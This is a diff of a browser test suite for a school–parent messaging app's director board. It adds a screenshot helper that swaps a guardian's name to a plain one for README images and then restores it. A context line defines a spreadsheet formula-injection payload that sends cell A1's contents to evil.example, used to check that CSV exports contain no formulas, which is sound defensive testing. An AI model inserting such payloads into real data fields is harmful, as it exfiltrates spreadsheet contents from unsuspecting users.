@@ -35,6 +35,24 @@ SCREENSHOTS = REPO / "docs" / "screenshots"
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1;"Cliquez ici")'
 
 
+def adams_guardian(server: Server, name: str) -> None:
+    admin(server, "PUT", "/admin/people/p-adam", {"school_id": "ecole-jaures", "name": name,
+                                                  "role": "guardian", "phone": "+33 6 12 34 56 78"})
+
+
+def screenshot(page: Page, server: Server, name: str) -> None:
+    """The board as the README shows it: Adam's guardian under a plain name for the picture
+    (the hostile name is the CSV test's, not what a school would see), then back."""
+    adams_guardian(server, "Karim Benali")
+    page.reload()
+    expect(page.locator(".family", has_text="Karim Benali").first).to_be_visible()
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    page.screenshot(path=str(SCREENSHOTS / name), full_page=True)
+    adams_guardian(server, EVIL)
+    page.reload()
+    expect(page.locator(".family", has_text=EVIL).first).to_be_visible()
+
+
 @pytest.fixture
 def board_server(tmp_path: Path) -> Iterator[Server]:
     """The demo school with the admin API on, and some class life: posts, an announcement,
@@ -42,8 +60,7 @@ def board_server(tmp_path: Path) -> Iterator[Server]:
     with _serve(tmp_path / "server", ["--demo"], {"LIAISON_API_KEY": API_KEY}, None, 30.0) as server:
         admin(server, "PUT", "/admin/schools/ecole-jaures/quiet-hours",  # reminders whenever the suite runs
               {"start": "00:00", "end": "00:00", "weekends": False, "timezone": "Europe/Paris"})
-        admin(server, "PUT", "/admin/people/p-adam", {"school_id": "ecole-jaures", "name": EVIL,
-                                                      "role": "guardian", "phone": "+33 6 12 34 56 78"})
+        adams_guardian(server, EVIL)
         teacher, director = ProtocolClient(server.url, "t-martin"), ProtocolClient(server.url, "d-bernard")
         nguyen = ProtocolClient(server.url, "t-nguyen")
         father, durand = ProtocolClient(server.url, "p-lea-pere"), ProtocolClient(server.url, "p-durand")
@@ -85,7 +102,7 @@ def open_as(browser: Browser, board_server: Server) -> Iterator[Callable[..., Pa
     assert not found, f"Content-Security-Policy violations: {found}"
 
 
-def test_the_directors_board_on_a_desktop(open_as) -> None:
+def test_the_directors_board_on_a_desktop(open_as, board_server: Server) -> None:
     page = open_as("d-bernard")
     table = page.locator("table.board-table")
     expect(table.locator("tr[data-class=cp-a]")).to_contain_text("CP A")
@@ -97,8 +114,7 @@ def test_the_directors_board_on_a_desktop(open_as) -> None:
     expect(table.locator("tr[data-class=cm2-b] td").nth(3)).to_have_text("1")  # inactive: Adam's family
     never = page.locator(".list-never_signed_in")
     expect(never.locator("summary .badge")).to_have_text("1")  # Adam's family: nobody ever came
-    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
-    page.screenshot(path=str(SCREENSHOTS / "board-desktop.png"), full_page=True)
+    screenshot(page, board_server, "board-desktop.png")
 
     # "Exporter (CSV)": a file Excel opens in columns, where no cell is a formula
     with page.expect_download() as caught:
@@ -130,7 +146,7 @@ def test_the_directors_board_on_a_desktop(open_as) -> None:
     expect(page).to_have_url(re.compile(r"#/chat/chat%3As-adam~d-bernard$"))
 
 
-def test_the_directors_board_on_a_phone(open_as) -> None:
+def test_the_directors_board_on_a_phone(open_as, board_server: Server) -> None:
     page = open_as("d-bernard", viewport=PHONE)
     row = page.locator("tr[data-class=cm2-b]")
     expect(row).to_contain_text("CM2 B")
@@ -138,7 +154,7 @@ def test_the_directors_board_on_a_phone(open_as) -> None:
     # on a phone each class is a card of labelled lines, no wider than the screen
     assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
     expect(page.locator(".list-inactive summary")).to_be_visible()
-    page.screenshot(path=str(SCREENSHOTS / "board-phone.png"), full_page=True)
+    screenshot(page, board_server, "board-phone.png")
 
 
 def test_a_teacher_sees_their_class_only(open_as) -> None:
